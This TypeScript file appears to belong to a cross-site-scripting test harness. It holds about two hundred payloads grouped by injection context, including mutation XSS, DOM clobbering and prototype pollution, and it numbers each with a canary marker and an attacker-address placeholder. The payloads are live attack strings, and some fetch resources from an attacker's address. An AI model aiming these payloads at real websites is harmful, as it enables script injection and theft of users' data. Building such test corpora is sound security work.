/**
 * Two hundred and sixteen texts that have made careless pages run what a stranger wrote, sorted by the carelessness that each needs.
 *
 * § stands for the code that is to run, ¶ for an address of the attacker's. Whatever would come to exist in a page carries the
 * attribute x-canario, so that a look at the page tells, whether or not anything ran.
 */
const payloadsByCarelessness = {
  /** Written into the page as it is. */
  html: [
    '<script x-canario>§</script>',
    '<ScRiPt x-canario>§</sCrIpT>',
    '<script x-canario >§</script >',
    '<script/x-canario>§</script>',
    '<script x-canario\n>§</script\n>',
    '<script x-canario src=¶></script>',
    '<script x-canario src="data:text/javascript,§"></script>',
    '<script x-canario type=module>§</script>',
    '<script x-canario async>§</script>',
    '<script x-canario defer src="data:,§"></script>',
    '<scr<script x-canario>ipt x-canario>§</script>',
    '<<script x-canario>§</script>',
    '<img x-canario src=x onerror=§>',
    '<img x-canario src=x onerror="§">',
    "<img x-canario src=x onerror='§'>",
    '<IMG x-canario SRC=x OnErRoR=§>',
    '<img/x-canario/src=x/onerror=§>',
    '<img x-canario\tsrc=x\tonerror\t=\t§>',
    '<img x-canario\fsrc=x\fonerror=§>',
    '<img x-canario src="x:x" onerror="&#99;anario&#40;0&#41;,§">',
    '<img x-canario src=x onerror=&#x61;lert`§`>',
    '<img x-canario src=¶>',
    '<img x-canario srcset="¶ 1x">',
    '<img x-canario src onerror=§ //',
    '<image x-canario src=x onerror=§>',
    '<body x-canario onload=§>',
    '<body x-canario onpageshow=§>',
    '<div x-canario onmouseover=§>a</div>',
    '<div x-canario onclick=§ style=position:fixed;inset:0>a</div>',
    '<a x-canario href=javascript:§>a</a>',
    '<a x-canario href="JaVaScRiPt:§">a</a>',
    '<a x-canario href="java&#9;script:§">a</a>',
    '<a x-canario href="&#1;javascript:§">a</a>',
    '<a x-canario href="javascript&colon;§">a</a>',
    '<a x-canario href=data:text/html,<script>§</script>>a</a>',
    '<a x-canario href=vbscript:§>a</a>',
    '<iframe x-canario src=javascript:§></iframe>',
    '<iframe x-canario srcdoc="<script>parent.§</script>"></iframe>',
    '<iframe x-canario src=¶></iframe>',
    '<iframe x-canario onload=§></iframe>',
    '<object x-canario data=javascript:§></object>',
    '<object x-canario data=¶ onerror=§></object>',
    '<embed x-canario src=javascript:§>',
    '<form x-canario action=javascript:§><button>a</button></form>',
    '<form x-canario><button x-canario formaction=javascript:§>a</button></form>',
    '<isindex x-canario action=javascript:§ type=image>',
    '<input x-canario autofocus onfocus=§>',
    '<textarea x-canario autofocus onfocus=§></textarea>',
    '<select x-canario autofocus onfocus=§><option>a</select>',
    '<button x-canario popovertarget=p onbeforetoggle=§>a</button>',
    '<video x-canario src=x onerror=§></video>',
    '<video x-canario><source x-canario onerror=§></video>',
    '<video x-canario poster=¶></video>',
    '<audio x-canario src=x onerror=§></audio>',
    '<audio x-canario src=¶ autoplay></audio>',
    '<details x-canario open ontoggle=§>a</details>',
    '<marquee x-canario onstart=§>a</marquee>',
    '<style x-canario>@keyframes k{}</style><b x-canario style=animation-name:k onanimationstart=§>a</b>',
    '<style x-canario>@import "¶"</style>',
    '<style x-canario>body{background:url(¶)}</style>',
    '<style x-canario>input[value^=a]{background:url(¶)}</style>',
    '<b x-canario style=background:url(¶)>a</b>',
    '<link x-canario rel=stylesheet href=¶>',
    '<link x-canario rel=preload as=script href=¶>',
    '<link x-canario rel=prefetch href=¶>',
    '<link x-canario rel=stylesheet href=x onerror=§>',
    '<base x-canario href=¶>',
    '<meta x-canario http-equiv=refresh content="0;url=javascript:§">',
    '<meta x-canario http-equiv=refresh content="9;url=¶">',
    '<meta x-canario http-equiv=Content-Security-Policy content="script-src *">',
    '<keygen x-canario autofocus onfocus=§>',
    '<xss x-canario id=x tabindex=1 autofocus onfocus=§></xss>',
    '<x x-canario contenteditable oninput=§ onbeforeinput=§>a</x>',
    '<p x-canario onpointerenter=§>a</p>',
    '<table x-canario background=¶><td x-canario>a</table>',
    '<dialog x-canario open onclose=§><form x-canario method=dialog><button>a</button></form></dialog>',
    '<track x-canario src=¶ default>',
    '<frameset x-canario onload=§></frameset><p x-canario>a',
    '<portal x-canario src=¶></portal>',
    '<menuitem x-canario onclick=§>a</menuitem>',
    '<plaintext x-canario>§',
    '<noembed x-canario><img x-canario src=x onerror=§></noembed><img x-canario src=x onerror=§>',
  ],
  /** The same through the parsers of drawings and formulas. */
  foreign: [
    '<svg x-canario onload=§>',
    '<svg/onload=§ x-canario>',
    '<svg x-canario><script x-canario>§</script></svg>',
    '<svg x-canario><script x-canario href=¶ /></svg>',
    '<svg x-canario><script x-canario>&#99;anario(0),§</script></svg>',
    '<svg x-canario><animate x-canario onbegin=§ attributeName=x dur=1s>',
    '<svg x-canario><set x-canario onbegin=§ attributeName=x to=1>',
    '<svg x-canario><a x-canario xlink:href=javascript:§><text x=9 y=9>a</text></a></svg>',
    '<svg x-canario><a x-canario><animate x-canario attributeName=href values=javascript:§ /><text x=9 y=9>a</text></a></svg>',
    '<svg x-canario><use x-canario href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§</script></svg>#x"/></svg>',
    '<svg x-canario><image x-canario href=¶ onerror=§ /></svg>',
    '<svg x-canario><foreignObject x-canario><img x-canario src=x onerror=§></foreignObject></svg>',
    '<svg x-canario><style x-canario><img x-canario src=x onerror=§></style></svg>',
    '<svg x-canario><title x-canario><img x-canario src=x onerror=§></title></svg>',
    '<svg x-canario><handler x-canario type=text/javascript>§</handler></svg>',
    '<svg x-canario><discard x-canario onbegin=§>',
    '<math x-canario><maction x-canario actiontype=statusline xlink:href=javascript:§>a</maction></math>',
    '<math x-canario href=javascript:§>a</math>',
    '<math x-canario><mtext x-canario><img x-canario src=x onerror=§></mtext></math>',
    '<math x-canario><annotation-xml x-canario encoding=text/html><img x-canario src=x onerror=§></annotation-xml></math>',
    '<template x-canario><img x-canario src=x onerror=§></template>',
    '<template x-canario shadowrootmode=open><img x-canario src=x onerror=§></template>',
    '<?xml version=1?><x x-canario onclick=§>a</x>',
  ],
  /** Harmless at the first reading, and not at the second. */
  mutation: [
    '<math x-canario><mtext x-canario><table x-canario><mglyph x-canario><style x-canario><!--</style><img x-canario title="--&gt;&lt;img src=x onerror=§&gt;">',
    '<math x-canario><mtext x-canario><table x-canario><mglyph x-canario><style x-canario><math x-canario></style><img x-canario src=x onerror=§></mglyph></table>',
    '<svg x-canario></p><style x-canario><a x-canario id="</style><img x-canario src=x onerror=§>">',
    '<noscript x-canario><p x-canario title="</noscript><img x-canario src=x onerror=§>">',
    '<form x-canario><math x-canario><mtext x-canario></form><form x-canario><mglyph x-canario><style x-canario></math><img x-canario src=x onerror=§></style></mglyph></form>',
    '<listing x-canario>&lt;img x-canario src=x onerror=§&gt;</listing><b x-canario>a</b>',
    '<select x-canario><template x-canario><style x-canario><!--</style><a x-canario rel="--></style></template></select><img src=x onerror=§>">',
    '<xmp x-canario><p x-canario title="</xmp><img x-canario src=x onerror=§>">',
    '<a x-canario title="`><img src=x onerror=§>`">a</a>',
    '<p x-canario><svg x-canario><desc x-canario><p x-canario title="</desc><img x-canario src=x onerror=§>"></svg>',
  ],
  /** Between double quotes. */
  attribute: [
    '"><script x-canario>§</script>',
    '"><img x-canario src=x onerror=§>',
    '" x-canario onfocus=§ autofocus a="',
    '" x-canario onmouseover="§',
    '"x-canario onfocus="§"autofocus="',
    '"/x-canario/onfocus="§"/autofocus="',
    '" x-canario style="animation-name:a" onanimationend="§',
    '"\nx-canario\nonfocus=§\nautofocus\na="',
    '">\n</form><form x-canario action="javascript:§',
    '&quot;"><b x-canario onclick=§>a</b>',
    '\\"><svg x-canario onload=§>',
    '" type=image src=¶ x-canario onerror="§',
  ],
  /** Between single quotes. */
  single: [
    "'><script x-canario>§</script>",
    "' x-canario onfocus=§ autofocus a='",
    "'x-canario onfocus='§'autofocus='",
    "\\'><svg x-canario onload=§>",
    '\'"><img x-canario src=x onerror=§>',
  ],
  /** Without quotes. */
  bare: [
    'a x-canario onfocus=§ autofocus',
    'a/x-canario\tonfocus=§\tautofocus',
    'a><img x-canario src=x onerror=§>',
    '`` x-canario onfocus=§ autofocus',
  ],
  /** As the address of a link. */
  href: [
    'javascript:§',
    'JAVASCRIPT:§',
    ' javascript:§',
    'java\nscript:§',
    'java\tscript:§',
    '\u0001javascript:§',
    'javascript://%0a§',
    'javascript://perchero.example/%0d%0a§',
    "javascript:'/*\"/*`/*--></title></style></textarea></script><b x-canario>';§",
    'data:text/html,<script>§</script>',
    'data:text/html;base64,PHNjcmlwdD5jYW5hcmlvKDApPC9zY3JpcHQ+#§',
    'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=§ />',
    'data:application/xhtml+xml,<x:script xmlns:x=http://www.w3.org/1999/xhtml>§</x:script>',
    'vbscript:§',
    'javascript&colon;§',
    '&#106;avascript:§',
  ],
  /** Inside a script, as a text or as data. */
  script: [
    '</script><script x-canario>§</script>',
    '</ScRiPt ><script x-canario>§</script>',
    '</script/><img x-canario src=x onerror=§>',
    '</script\n><svg x-canario onload=§>',
    '<!--<script></script><script x-canario>§</script>--></script><script x-canario>§</script>',
    '";§;//',
    '"-§-"',
    '"/§/"',
    '"+(()=>§)()+"',
    '\u2028";§;//',
    '"//</script><script x-canario>§</script>',
  ],
  scriptSingle: ["';§;//", "'-§-'", "'+(()=>§)()+'"],
  scriptTemplate: ['${§}', '`;§;`', '`-§-`', '${(()=>§)()}'],
  /** Where the parser takes everything for text until the end tag. */
  textOnly: [
    '</textarea><script x-canario>§</script>',
    '</TEXTAREA ><img x-canario src=x onerror=§>',
    '</textarea/><svg x-canario onload=§>',
    '</title></textarea><img x-canario src=x onerror=§>',
  ],
  /** Inside a comment. */
  comment: [
    '--><script x-canario>§</script>',
    '--!><img x-canario src=x onerror=§>',
    '><img x-canario src=x onerror=§>--><b x-canario>',
  ],
  /** Inside a style sheet. */
  style: [
    '</style><script x-canario>§</script>',
    '</style ><img x-canario src=x onerror=§>',
    'a{}body{background:url(¶)}/*§*/',
    '*{background-image:url("¶")}/*§*/',
    '@import url("¶");/*§*/',
    'x:expression(§);}</style><b x-canario onclick=§>a</b>',
  ],
  /** Read a second time after decoding. */
  decoded: [
    '%3Cscript x-canario%3E§%3C/script%3E',
    '%3Cimg%20x-canario%20src=x%20onerror=§%3E',
    '%253Cimg x-canario src=x onerror=§%253E',
    '&lt;script x-canario&gt;§&lt;/script&gt;',
    '&#60;img x-canario src=x onerror=§&#62;',
    '&#x3c;svg x-canario onload=§&#x3e;',
    '\\u003cimg x-canario src=x onerror=§\\u003e',
    '\\x3csvg x-canario onload=§\\x3e',
    '&amp;lt;img x-canario src=x onerror=§&amp;gt;',
  ],
  /** Letters that somebody takes for others. */
  folded: [
    '＜script x-canario＞§＜/script＞',
    '＜img x-canario src=x onerror=§＞',
    '﹤svg x-canario onload=§﹥',
    '\u200b＜b x-canario onclick=§＞a＜/b＞\u202e',
  ],
  /** What marks up without brackets. */
  markdown: [
    '[a](javascript:§)',
    '[a]( javascript:§ "x")',
    '![a](¶ "§")',
    '[a](data:text/html,<script>§</script>)',
    '<javascript:§>',
    '[a](https://a.example/" x-canario onclick="§)',
  ],
  /** For those who fill in forms of their own. */
  templates: ['{{§}}', '{{constructor.constructor("§")()}}', '<%=§%>', '#{§}', '[[§]]'],
  /** Names that stand in the way of a page's own, and keys that change every object. */
  clobbering: [
    '<a x-canario id=settings name=src href="¶">§</a>',
    '<form x-canario id=settings><input x-canario name=src value="¶"></form>§',
    '<img x-canario name=getElementById><img x-canario name=querySelector>§',
    '<a x-canario id=defaultView></a><a x-canario id=defaultView name=x>§</a>',
    '<form x-canario name=body><output x-canario id=cookie>§</output></form>',
    '<iframe x-canario name=settings srcdoc="<a id=src href=¶>">§</iframe>',
  ],
  merged: [
    '{"__proto__":{"run":"§"}}',
    '{"constructor":{"prototype":{"run":"§"}}}',
    '{"a":{"__proto__":{"run":"§"}}}',
  ],
} as const;

export type Carelessness = keyof typeof payloadsByCarelessness;

export interface Payload {
  readonly number: number;
  readonly carelessness: Carelessness;
  readonly text: string;
}

/** The corpus with its numbers: `canario(17)` is what the seventeenth runs. */
export function payloadsFor(attacker: string): Payload[] {
  const all = Object.entries(payloadsByCarelessness) as [Carelessness, readonly string[]][];
  return all
    .flatMap(([carelessness, texts]) => texts.map((text) => ({ carelessness, text })))
    .map(({ carelessness, text }, number) => ({
      number,
      carelessness,
      text: told(text, number, attacker),
    }));
}

/** Every text says its number at least once, so that it is found wherever it is shown. */
function told(text: string, number: number, attacker: string): string {
  const code = `canario(${number})`;
  const filled = text.replaceAll('§', code).replaceAll('¶', `${attacker}/${number}`);
  return filled.includes(code) ? filled : `${filled} ${code}`;
}

/** So many at once, each group full: the last shares some with the one before. */
export function groupsOf<Item>(items: readonly Item[], size: number): Item[][] {
  const count = Math.ceil(items.length / size);
  return Array.from({ length: count }, (_, index) => {
    const start = Math.max(0, Math.min(index * size, items.length - size));
    return items.slice(start, start + size);
  });
}
